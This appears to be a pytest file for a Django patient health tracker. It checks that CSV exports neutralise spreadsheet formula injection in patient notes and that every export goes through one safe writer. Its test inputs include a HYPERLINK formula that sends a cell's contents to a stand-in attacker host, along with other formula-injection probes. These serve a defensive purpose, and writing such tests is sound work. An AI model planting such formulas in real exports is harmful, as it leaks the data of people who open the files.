"""Every CSV download goes through bonehealth.spreadsheet.csv_writer, so no cell a patient typed
runs as a formula in the spreadsheet that opens it (issue #15 item 3)."""

import csv
import datetime
import io
from pathlib import Path

import pytest
from django.urls import reverse

from tests.factories import EntryFactory

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'


def rows_of(response):
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


@pytest.mark.parametrize("typed", [HYPERLINK, "+SUM(1)", "-2+3", "@cmd", "\tx", "\rx"])
def test_a_formula_in_a_patients_note_is_neutralised_in_their_check_in_export(patient_client, patient, typed):
    EntryFactory(patient=patient, day=datetime.date(2026, 11, 2), note=typed)
    rows = rows_of(patient_client.get(reverse("tracker:export_csv")))
    note = dict(zip(rows[0], rows[1], strict=True))["note"]
    assert note == "'" + typed


def test_no_module_writes_csv_except_through_the_one_writer():
    """A new export written with csv.writer directly would skip the neutralising."""
    offenders = []
    for folder in ("accounts", "education", "tracker", "bonehealth"):
        for path in (ROOT / folder).rglob("*.py"):
            if path.name == "spreadsheet.py":
                continue
            lines = path.read_text().splitlines()
            if any(line.strip() in ("import csv", "from csv import writer") for line in lines):
                offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []
